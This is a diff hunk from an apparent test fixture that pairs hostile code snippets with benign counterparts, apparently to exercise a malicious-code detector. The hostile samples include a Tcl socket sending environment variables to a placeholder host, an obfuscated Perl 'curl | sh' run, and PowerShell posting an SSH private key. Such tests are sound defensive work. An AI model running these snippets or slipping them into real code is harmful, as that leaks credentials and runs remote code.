@@ -256,7 +256,7 @@ PAIRS = [
         "set s [socket x.invalid 443]\nputs $s [array get env]",
         "set s [socket x.invalid 443]\nputs $s [array get counts]",
     ),
-    ("c.pl", "my $d = reverse 'hs | lruc';\nsystem $d;", "my $d = reverse 'hs | lruc';\nprint $d;"),
+    ("c.pl", "my $d = reverse 'hs | lruc';\nsystem $d;", "my $d = reverse 'txt.seman';\nprint $d;"),
     (
         "c.ps1",
         "$k = Get-Content $env:USERPROFILE\\.ssh\\id_rsa\nInvoke-WebRequest -Uri https://x.invalid -Method POST -Body $k",
